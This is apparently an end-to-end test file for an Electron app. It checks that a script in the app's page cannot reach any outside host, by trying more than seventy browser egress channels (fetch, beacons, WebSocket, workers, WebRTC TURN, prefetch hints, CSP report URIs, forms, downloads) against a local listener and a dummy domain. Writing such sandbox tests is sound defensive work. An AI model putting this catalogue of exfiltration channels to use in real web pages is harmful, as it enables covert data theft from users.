import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFile, rm } from 'node:fs/promises'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from '#tests/support/e2e/e2e.ts'

/** A domain without any names. A script could send data simply because Chromium looks a name up. */
const domain = 'way-out.test'

/** A stranger's server, which counts who calls. */
async function openStranger() {
  const calls: string[] = []
  const tcp = createServer((socket) => {
    calls.push('a TCP connection')
    socket.on('error', () => {}).destroy()
  }).listen(0, '127.0.0.1')
  const udp = createSocket('udp4')
    .on('message', () => calls.push('a UDP packet'))
    .bind(0, '127.0.0.1')
  await Promise.all([once(tcp, 'listening'), once(udp, 'listening')])
  return {
    calls,
    tcp: (tcp.address() as AddressInfo).port,
    udp: udp.address().port,
    close: () => {
      tcp.close()
      udp.close()
    },
  }
}

interface Stranger {
  readonly tcp: number
  readonly udp: number
  readonly domain: string
}

/**
 * Runs in the page and tries everything that a script could do there. Returns the names of the ways, and of
 * those that this Chromium lacks.
 */
async function tryWaysOut({ tcp, udp, domain }: Stranger) {
  const tried: string[] = []
  const missing: string[] = []
  const addresses = (name: string) => [`http://127.0.0.1:${tcp}/${name}`, `https://${name}.${domain}/`]
  const attempt = async (name: string, way: (address: string) => unknown) => {
    tried.push(name)
    for (const address of addresses(name)) {
      try {
        // Waits only briefly, because some ways never answer.
        await Promise.race([way(address), new Promise((resolve) => setTimeout(resolve, 20))])
      } catch (error) {
        if (error instanceof TypeError && /is not a (function|constructor)|undefined/.test(error.message))
          missing.push(name)
      }
    }
  }
  const global = (name: string) => Reflect.get(globalThis, name)
  const make = (name: string) => global(name) as new (...given: unknown[]) => object
  const member = (owner: unknown, name: string) =>
    ((...given: unknown[]) => {
      const call = Reflect.get(Object(owner), name)
      return call.apply(owner, given)
    }) as (...given: unknown[]) => unknown
  const add = (markup: string) => document.body.insertAdjacentHTML('beforeend', markup)
  const addScript = (type: string, members: object) => {
    document.body.append(Object.assign(document.createElement('script'), { type, ...members }))
  }
  const codeOf = (text: string) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))

  const requests: Record<string, (address: string) => unknown> = {
    fetch: (to) => fetch(to, { mode: 'no-cors' }),
    'fetch-kept-alive': (to) => fetch(to, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
    'fetch-later': (to) => member(globalThis, 'fetchLater')(to, { activateAfter: 0 }),
    beacon: (to) => navigator.sendBeacon(to, 'x'),
    xhr: (to) => {
      const xhr = new XMLHttpRequest()
      xhr.open('GET', to)
      xhr.send()
    },
    websocket: (to) => new WebSocket(to.replace(/^http/, 'ws')),
    'websocket-stream': (to) => new (make('WebSocketStream'))(to.replace(/^http/, 'ws')),
    'event-source': (to) => new EventSource(to),
    'web-transport': (to) => new (make('WebTransport'))(to.replace(/^http:/, 'https:')),
    import: (to) => import(/* @vite-ignore */ to),
    worker: (to) => new Worker(to),
    'worker-of-a-blob': (to) => new Worker(codeOf(`fetch('${to}', { mode: 'no-cors' })`)),
    'shared-worker': (to) => new SharedWorker(to),
    'shared-worker-of-a-blob': (to) => new SharedWorker(codeOf(`fetch('${to}', { mode: 'no-cors' })`)),
    'service-worker': (to) => navigator.serviceWorker.register(to),
    'audio-worklet': (to) => new AudioContext().audioWorklet.addModule(to),
    'paint-worklet': (to) => member(Reflect.get(CSS, 'paintWorklet'), 'addModule')(to),
    font: (to) => new FontFace('Stranger', `url(${to})`).load(),
    payment: (to) =>
      member(
        new (make('PaymentRequest'))([{ supportedMethods: to }], {
          total: { label: 'x', amount: { currency: 'AUD', value: '1' } },
        }),
        'canMakePayment',
      )(),
    identity: (to) =>
      member(navigator.credentials, 'get')({ identity: { providers: [{ configURL: to, clientId: 'x' }] } }),
    'shared-storage': (to) => member(global('sharedStorage'), 'createWorklet')(to),
    'interest-group': (to) =>
      member(navigator, 'joinAdInterestGroup')({ owner: new URL(to).origin, name: 'x', updateURL: to }, 60),
    presentation: (to) => member(new (make('PresentationRequest'))(to), 'getAvailability')(),
    'background-fetch': async (to) => {
      const registration = await navigator.serviceWorker.getRegistration()
      return member(Reflect.get(Object(registration), 'backgroundFetch'), 'fetch')('x', to)
    },
    notification: (to) => new Notification('x', { icon: to }),
    'tcp-socket': (to) => new (make('TCPSocket'))(new URL(to).hostname, Number(new URL(to).port || 443)),
    'udp-socket': (to) => new (make('UDPSocket'))({ remoteAddress: new URL(to).hostname, remotePort: udp }),
    print: () => setTimeout(() => print()),
    'media-session': (to) => {
      navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: to }] })
    },
    stylesheet: (to) => new CSSStyleSheet().replace(`@import url(${to})`),
    'css-variable': (to) => document.body.style.setProperty('background-image', `url(${to})`),
  }
  for (const [name, way] of Object.entries(requests)) await attempt(name, way)

  const elements: Record<string, (address: string) => string> = {
    image: (to) => `<img src="${to}">`,
    'image-set': (to) => `<img srcset="${to} 2x">`,
    picture: (to) => `<picture><source srcset="${to}"><img></picture>`,
    'image-input': (to) => `<input type="image" src="${to}">`,
    video: (to) => `<video src="${to}" poster="${to}" autoplay></video>`,
    audio: (to) => `<audio src="${to}" autoplay></audio>`,
    track: (to) => `<video><track default src="${to}"></video>`,
    svg: (to) =>
      `<svg><image href="${to}"/><use href="${to}#a"/><filter><feImage href="${to}"/></filter></svg>`,
    style: (to) =>
      `<style>@import "${to}"; @font-face { font-family: S; src: url(${to}) } body { cursor: url(${to}), auto; font-family: S; background: url(${to}); mask: url(${to}) }</style>`,
    'background-of-a-table': (to) => `<table background="${to}"><tr><td>x</table>`,
    link: (to) =>
      `<link rel="stylesheet" href="${to}"><link rel="icon" href="${to}"><link rel="manifest" href="${to}">`,
    'anchor-with-attribution': (to) => `<img attributionsrc="${to}"><a href="/" attributionsrc="${to}">x</a>`,
    'policy-report': (to) =>
      `<meta http-equiv="content-security-policy" content="img-src *; report-uri ${to}">`,
    'looked-up-links': (to) => `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${to}">x</a>`,
  }
  for (const rel of [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'prerender',
    'modulepreload',
    'expect',
    'compression-dictionary',
  ])
    elements[`hint-${rel}`] = (to) => `<link rel="${rel}" href="${to}">`
  for (const as of ['fetch', 'script', 'style', 'image', 'font', 'track', 'worker', 'document'])
    elements[`preload-${as}`] = (to) => `<link rel="preload" as="${as}" href="${to}" crossorigin>`
  for (const [name, markup] of Object.entries(elements)) await attempt(name, (to) => add(markup(to)))

  await attempt('script', (src) => addScript('', { src }))
  await attempt('module', (src) => addScript('module', { src }))
  for (const action of ['prefetch', 'prerender'])
    await attempt(`rules-${action}`, (to) =>
      addScript('speculationrules', {
        textContent: JSON.stringify({ [action]: [{ urls: [to], eagerness: 'immediate' }] }),
      }),
    )

  const press = (markup: string) => {
    const part = document.createRange().createContextualFragment(markup).firstElementChild
    if (!(part instanceof HTMLElement)) throw new Error(markup)
    document.body.append(part)
    part.click()
  }
  await attempt('ping', (to) => press(`<a href="#ping" ping="${to}">x</a>`))
  await attempt('link-pressed', (to) => press(`<a href="${to}">x</a>`))
  await attempt('link-to-a-window', (to) => press(`<a href="${to}" target="_blank">x</a>`))
  await attempt('download', (to) => press(`<a href="${to}" download="records.csv">x</a>`))
  await attempt('download-of-a-blob', () => press(`<a href="${codeOf('x')}" download="records.exe">x</a>`))
  await attempt('open', (to) => window.open(to))
  await attempt('form', (to) => {
    add(`<form method="post" action="${to}"><input name="a" value="x"></form>`)
    document.body.querySelector<HTMLFormElement>('form:last-of-type')?.submit()
  })
  await attempt('refresh', (to) =>
    document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${to}">`),
  )
  await attempt('navigation', (to) => member(global('navigation'), 'navigate')(to))
  await attempt('location', (to) => location.assign(to))

  for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection']) {
    const servers = (to: string) => {
      const [host, port] = to.startsWith('http:') ? ['127.0.0.1', udp] : [new URL(to).hostname, 3478]
      const tcpPort = to.startsWith('http:') ? tcp : 3478
      return [
        { urls: `stun:${host}:${port}` },
        {
          urls: [`turn:${host}:${port}`, `turn:${host}:${tcpPort}?transport=tcp`],
          username: 'x',
          credential: 'x',
        },
      ]
    }
    await attempt(`web-rtc-${name.length}`, async (to) => {
      const peer = new (make(name))({ iceServers: servers(to) }) as RTCPeerConnection
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
      await new Promise((resolve) => setTimeout(resolve, 500))
    })
  }
  return { tried, missing }
}

test('a script in the page reaches nothing outside: no connection, no packet, no name lookup, no file, no frame', async ({
  launch,
  sandbox,
}, testInfo) => {
  const netLog = join(tmpdir(), `goto-admin-ways-out-${process.pid}-${testInfo.retry}.json`)
  const stranger = await openStranger()
  try {
    const { app, window, close, output } = await launch({
      // Chromium's own shell connects ahead of a request that is then refused. Electron has no such shell.
      environment: { ...sandbox.environment, ELECTRON_HOST_AHEAD: 'off' },
      args: [`--log-net-log=${netLog}`],
    })
    // Signed in or not: an earlier test may have left a sign-in.
    await window.getByRole('button').first().waitFor()
    const before = window.url()
    const { tcp, udp } = stranger
    const { tried, missing } = await window.evaluate(tryWaysOut, { tcp, udp, domain })
    testInfo.annotations.push({
      type: 'ways',
      description: `${tried.length}, of which missing: ${missing.join(', ')}`,
    })
    expect(tried.length).toBeGreaterThan(70)
    expect(missing).toContain('web-rtc-17')
    expect(window.url().replace('#ping', '')).toBe(before)
    expect(app.windows()).toHaveLength(1)

    expect(stranger.calls).toEqual([])

    // A frame still has WebRTC, but the header blocks it there, and the page's process ends.
    const crashed = window.waitForEvent('crash')
    await window
      .evaluate((port) => {
        document.body.append(document.createElement('iframe'))
        const Peer = Reflect.get(
          Object(Reflect.get(globalThis, 0)),
          'RTCPeerConnection',
        ) as typeof RTCPeerConnection
        const urls = `turn:127.0.0.1:${port}?transport=tcp`
        const peer = new Peer({ iceServers: [{ urls, username: 'x', credential: 'x' }] })
        peer.createDataChannel('x')
        return peer.createOffer().then((offer) => peer.setLocalDescription(offer))
      }, tcp)
      .catch(() => {})
    await crashed
    expect(stranger.calls).toEqual([])
    const host = await app.evaluate(() => {
      const { __electronHost: control } = globalThis as {
        __electronHost?: { dialogs: { kind: string }[]; opened: object[] }
      }
      return {
        saves: control?.dialogs.filter(({ kind }) => kind === 'save') ?? [],
        opened: control?.opened ?? [],
      }
    })
    expect(host).toEqual({ saves: [], opened: [] })
    await close()
    expect(output()).not.toContain('uncaught')
    const names = (await readFile(netLog, 'utf8')).match(
      new RegExp(`[a-z0-9-]+\\.${domain.replace('.', '\\.')}`, 'g'),
    )
    expect([...new Set(names)]).toEqual([])
  } finally {
    stranger.close()
    await rm(netLog, { force: true })
  }
})
